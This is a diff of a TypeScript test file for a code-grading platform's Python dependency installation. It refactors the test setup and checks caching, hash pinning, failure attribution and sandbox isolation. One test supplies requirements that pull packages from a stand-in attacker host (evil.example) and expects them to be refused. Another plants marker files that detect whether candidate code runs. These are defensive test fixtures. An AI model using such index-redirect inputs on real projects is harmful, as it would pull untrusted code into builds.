@@ -18,38 +18,33 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { docker, images, uniqueId } from '../runner/devtools/env.ts';
-import { startGitServer, type GitServer } from '../runner/devtools/git-server.ts';
 import { startPipIndex, type PipIndex } from '../runner/devtools/pip-index.ts';
-import { startRedis, type TestRedis } from '../runner/devtools/redis.ts';
 import { startStack, type Stack } from '../runner/devtools/stack.ts';
 import { testPackages } from '../runner/devtools/wheels.ts';
 import type { Report } from '../runner/report/schema.ts';
 import { SandboxContainer } from '../runner/sandbox/index.ts';
 import { listTar } from '../runner/stages/pack/tar.ts';
 import { IMAGE_PYTHON_VERSION } from '../runner/stages/plan/python.ts';
+import { useGradingStack } from './support/grading.ts';
 
 const SERVICE = 'test/fixtures/realistic/python-requirements';
 const wheels = testPackages();
 const hashOf = (file: string) => wheels.find((w) => w.filename === file)!.sha256;
 
-let redis: TestRedis;
-let git: GitServer;
 let index: PipIndex;
-let stack: Stack;
 const cacheDir = mkdtempSync(path.join(os.tmpdir(), 'assay-pip-cache-'));
 
+// The pip index, registered before the stack: up before the stack starts (its env names the
+// index) and closed after it.
 beforeAll(async () => {
-  [redis, git, index] = await Promise.all([startRedis(), startGitServer(), startPipIndex({ wheels })]);
-  stack = await startStack(redis.url, { ASSAY_PIP_INDEX_URL: index.url, ASSAY_DEPS_CACHE_DIR: cacheDir, ASSAY_WORKER_CONCURRENCY: '1' });
-  await stack.startWorker();
+  index = await startPipIndex({ wheels });
 });
 
 afterAll(async () => {
-  await stack?.close();
   await index?.close();
-  await git?.close();
-  await redis?.stop();
 });
+
+const grading = useGradingStack({ env: () => ({ ASSAY_PIP_INDEX_URL: index.url, ASSAY_DEPS_CACHE_DIR: cacheDir, ASSAY_WORKER_CONCURRENCY: '1' }) });
 
 /** The realistic Python service, with files replaced or added (null: left out). */
 async function service(files: Record<string, string | null> = {}): Promise<{ dir: string }> {
@@ -63,7 +58,7 @@ async function service(files: Record<string, string | null> = {}): Promise<{ dir
 }
 
 async function grade(on: Stack, repo: { dir: string } | Record<string, string>): Promise<Report> {
-  const r = await git.addRepo(`py-${Math.random().toString(36).slice(2, 10)}`, repo);
+  const r = await grading.git.addRepo(`py-${Math.random().toString(36).slice(2, 10)}`, repo);
   const record = await on.submit({ challenge: 'simple-api', repoUrl: r.url });
   await on.waitForFinal(record.id, 300_000);
   return (await on.store.getReport(record.id))!;
@@ -75,7 +70,7 @@ const explain = (r: Report) => r.steps.map((s) => `${s.name} ${s.status}: ${s.re
 describe('Python dependencies', () => {
   it('installs a wheel and its dependency from the index into .venv, then restores them from the cache', async () => {
     const before = (await index.requests()).length;
-    const cold = await grade(stack, await service());
+    const cold = await grade(grading.stack, await service());
     expect(cold.runtime).toBe('python');
     expect(step(cold, 'install')?.status, explain(cold)).toBe('passed');
     expect(step(cold, 'install')?.log?.text).toMatch(/Successfully installed base-kit-1\.2\.0 tinyid-2\.0\.1/);
@@ -91,7 +86,7 @@ describe('Python dependencies', () => {
     expect(paths.some((p) => p.includes('site-packages/pip/'))).toBe(false);
 
     const warmFrom = (await index.requests()).length;
-    const warm = await grade(stack, await service());
+    const warm = await grade(grading.stack, await service());
     expect(step(warm, 'install')?.reason).toMatch(/restored \.venv from the dependency cache/);
     expect(warm.score.percent, explain(warm)).toBe(100);
     expect((await index.requests()).slice(warmFrom)).toEqual([]);
@@ -99,7 +94,7 @@ describe('Python dependencies', () => {
 
   it('installs pyproject.toml [project] dependencies and flags a requires-python the image cannot meet', async () => {
     const report = await grade(
-      stack,
+      grading.stack,
       await service({
         'requirements.txt': null,
         'pyproject.toml': '[project]\nname = "tasks"\nversion = "0.1.0"\nrequires-python = ">=3.12"\ndependencies = ["tinyid>=2"]\n',
@@ -113,7 +108,7 @@ describe('Python dependencies', () => {
   it('rejects requirements that leave the index before anything is installed', async () => {
     const before = (await index.requests()).length;
     const report = await grade(
-      stack,
+      grading.stack,
       await service({ 'requirements.txt': 'tinyid==2.0.1\n--extra-index-url https://evil.example/simple\nbase-kit @ https://evil.example/base_kit-9.0-py3-none-any.whl\n' }),
     );
     const install = step(report, 'install')!;
@@ -126,7 +121,7 @@ describe('Python dependencies', () => {
 
   it('fails a wrong --hash as the candidate\'s failure, with pip\'s reason', async () => {
     const report = await grade(
-      stack,
+      grading.stack,
       await service({
         'requirements.txt': `tinyid==2.0.1 --hash=sha256:${'0'.repeat(64)}\nbase-kit==1.2.0 --hash=sha256:${hashOf('base_kit-1.2.0-py3-none-any.whl')}\n`,
       }),
@@ -141,7 +136,7 @@ describe('Python dependencies', () => {
 
   it('installs with the right hashes (--require-hashes honoured, not refused)', async () => {
     const report = await grade(
-      stack,
+      grading.stack,
       await service({
         'requirements.txt': `tinyid==2.0.1 \\\n    --hash=sha256:${hashOf('tinyid-2.0.1-py3-none-any.whl')}\nbase-kit==1.2.0 \\\n    --hash=sha256:${hashOf('base_kit-1.2.0-py3-none-any.whl')}\n`,
       }),
@@ -154,7 +149,7 @@ describe('Python dependencies', () => {
   it('never imports workspace files named like what the install runs (venv, pip, sitecustomize)', async () => {
     const marker = "import os\nos.makedirs('/workspace/.venv', exist_ok=True)\nopen('/workspace/.venv/CANDIDATE_CODE_RAN', 'a').write(__name__)\n";
     const report = await grade(
-      stack,
+      grading.stack,
       await service({
         'requirements.txt': 'tinyid==2.0.1\n# the same packages, another cache key\n',
         'venv.py': marker,
@@ -189,7 +184,7 @@ describe('Python dependencies', () => {
 
 describe('whose fault a failed pip install is', () => {
   async function withStack(indexUrl: string, fn: (s: Stack) => Promise<void>): Promise<void> {
-    const s = await startStack(redis.url, { ASSAY_PIP_INDEX_URL: indexUrl, ASSAY_JOB_ATTEMPTS: '2', ASSAY_DEPS_CACHE_DIR: mkdtempSync(path.join(os.tmpdir(), 'assay-pip-c-')) });
+    const s = await startStack(grading.redis.url, { ASSAY_PIP_INDEX_URL: indexUrl, ASSAY_JOB_ATTEMPTS: '2', ASSAY_DEPS_CACHE_DIR: mkdtempSync(path.join(os.tmpdir(), 'assay-pip-c-')) });
     try {
       await s.startWorker();
       await fn(s);
@@ -200,7 +195,7 @@ describe('whose fault a failed pip install is', () => {
 
   it('an index that cannot be reached is the platform\'s failure, retried and never blamed on the candidate', async () => {
     await withStack(index.refusedUrl, async (s) => {
-      const r = await git.addRepo(`py-${Math.random().toString(36).slice(2, 10)}`, await service());
+      const r = await grading.git.addRepo(`py-${Math.random().toString(36).slice(2, 10)}`, await service());
       const record = await s.submit({ challenge: 'simple-api', repoUrl: r.url });
       await s.waitForFinal(record.id, 300_000);
       const report = (await s.store.getReport(record.id))!;
@@ -225,7 +220,7 @@ describe('whose fault a failed pip install is', () => {
   });
 
   it('a package the index does not have is the candidate\'s failure, with pip\'s reason', async () => {
-    const report = await grade(stack, await service({ 'requirements.txt': 'tinyid==2.0.1\nassay-no-such-package-3f9c2e==1.0\n' }));
+    const report = await grade(grading.stack, await service({ 'requirements.txt': 'tinyid==2.0.1\nassay-no-such-package-3f9c2e==1.0\n' }));
     expect(report.status).toBe('completed');
     expect(step(report, 'install')?.status).toBe('failed');
     expect(step(report, 'install')?.log?.text).toMatch(/No matching distribution found for assay-no-such-package-3f9c2e==1\.0/);
